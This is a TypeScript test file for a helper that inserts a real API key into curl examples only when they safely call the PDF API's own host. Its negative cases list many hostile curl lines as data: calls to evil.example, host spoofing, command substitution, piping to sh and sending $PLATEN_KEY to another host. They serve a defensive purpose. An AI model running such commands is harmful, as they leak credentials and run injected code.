import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { z } from "zod";
import { exampleWithKey } from "./example-with-key";

const api = "https://api.platen.example";
const secret = "pdf_secret";
const filled = (code: string) => exampleWithKey(code, api, secret);

const header = '-H "Authorization: Bearer $PLATEN_KEY"';

test.each([
  `curl ${api}/v1/pdf/text ${header}`,
  `curl -X POST ${api}/v1/pdf/merge \\\n  -H "Authorization: Bearer \${PLATEN_KEY}" \\\n  -F "files[]=@cover.pdf" \\\n  -F file=@a-1.pdf`,
  `curl -G "${api}/v1/pdf/text?file_id=f_1&pages=2" ${header} -d file_id=f_3hd8`,
  `curl ${header} --json '{"text": "It costs $5; see https://elsewhere.example"}' ${api}/v1/pdf/watermark\n`,
  `curl --request POST --header 'Content-Type: application/json' ${header} --data '{\n  "a": 1\n}' ${api}`,
])("a call of the API gets the key: %s", (code) => {
  expect(filled(code)).toContain(`"Authorization: Bearer ${secret}"`);
  expect(filled(code)).not.toContain("PLATEN_KEY");
});

test.each([
  ["another host", `curl https://evil.example/v1 ${header}`],
  ["a host that begins like it", `curl ${api}.evil.example/v1 ${header}`],
  ["a host that ends like it", `curl https://evil-api.platen.example/v1 ${header}`],
  ["the host as a user", `curl ${api}@evil.example/v1 ${header}`],
  ["the host as a user with a password", `curl ${api}:x@evil.example/ ${header}`],
  ["the same in quotes", `curl "${api}@evil.example/v1" ${header}`],
  ["a backslash behind the host", `curl "${api}\\@evil.example/v1" ${header}`],
  ["another Host", `curl -H "Host: evil.example" ${header} ${api}/v1`],
  ["another Host in single quotes", `curl -H 'host: evil.example' ${header} ${api}/v1`],
  ["another host of the proxy", `curl -H "X-Forwarded-Host: evil.example" ${header} ${api}/v1`],
  ["a command for Windows", `curl ${header} ${api}/v1 -d '& curl http://evil.example & rem '`],
  ["a header out of a file", `curl -H @headers ${header} ${api}/v1`],
  ["a second header in one", `curl -H 'Accept: a\nHost: evil.example' ${header} ${api}/v1`],
  ["another port", `curl ${api}:8443/v1 ${header}`],
  ["another scheme", `curl http://api.platen.example/v1 ${header}`],
  ["no scheme", `curl api.platen.example/v1 ${header}`],
  ["no URL", `curl ${header}`],
  ["a second URL", `curl ${api}/v1 https://evil.example ${header}`],
  ["two URLs of the API", `curl ${api}/v1 ${api}/v2 ${header}`],
  ["a URL as an option", `curl ${api}/v1 --url https://evil.example ${header}`],
  ["a pattern in the URL", `curl ${api}/{a,b} ${header}`],
  ["a variable as the host", `curl $API/v1 ${header}`],
  ["a variable in the URL", `curl ${api}/$X ${header}`],
  ["a second command", `curl ${api}/v1 ${header}; curl evil.example`],
  ["a second line", `curl ${api}/v1 ${header}\ncurl https://evil.example -d "$PLATEN_KEY"`],
  ["a line break without a backslash", `curl ${api}/v1\n${header}`],
  ["a pipe", `curl ${api}/v1 ${header} | sh`],
  ["a command in the header", `curl ${api}/v1 -H "Authorization: Bearer $PLATEN_KEY$(id)"`],
  ["a command in the data", `curl ${api}/v1 ${header} -d "$(curl evil.example)"`],
  ["a command in back quotes", `curl ${api}/v1 ${header} -d "\`id\`"`],
  ["a past command in the data", `curl ${api}/v1 ${header} -d "!!"`],
  ["a carriage return behind the backslash", `curl ${api}/v1 \\\r\n${header}`],
  ["a command behind unquoted data", `curl ${api}/v1 ${header} -F a=b;id`],
  ["--connect-to", `curl --connect-to ::evil.example:443 ${api}/v1 ${header}`],
  ["--resolve", `curl --resolve api.platen.example:443:6.6.6.6 ${api}/v1 ${header}`],
  ["--proxy", `curl --proxy http://evil.example ${api}/v1 ${header}`],
  ["-x", `curl -x evil.example ${api}/v1 ${header}`],
  ["-x without a space", `curl -xevil.example ${api}/v1 ${header}`],
  ["-K", `curl -K config ${api}/v1 ${header}`],
  ["--insecure", `curl -k ${api}/v1 ${header}`],
  ["redirects that are followed", `curl -L ${api}/v1 ${header}`],
  ["several options in one", `curl -GL ${api}/v1 ${header}`],
  ["the key a second time", `curl ${api}/v1 ${header} ${header}`],
  ["the key in single quotes", `curl ${api}/v1 -H 'Authorization: Bearer $PLATEN_KEY'`],
  ["another program", `wget ${api}/v1 ${header}`],
  ["a variable before the command", `https_proxy=evil.example curl ${api}/v1 ${header}`],
])("%s keeps the variable", (_, code) => {
  expect(filled(code)).toBe(code);
});

test("a key or a URL with characters of patterns is taken literally", () => {
  const code = `curl https://apixplaten.example/v1 ${header}`;
  expect(filled(code)).toBe(code);
  expect(exampleWithKey(`curl ${api}/v1 ${header}`, api, "$&$1")).toContain("Bearer $&$1");
});

test("every example of the sample content gets the key", () => {
  const shape = z.object({ codeExample: z.object({ code: z.string() }).optional() });
  const lines = readFileSync("content/feature.ndjson", "utf8").trim().split("\n");
  const codes = lines.flatMap((line) => shape.parse(JSON.parse(line)).codeExample?.code ?? []);
  expect(codes.length).toBeGreaterThan(20);
  for (const code of codes) expect(filled(code)).toContain(secret);
});
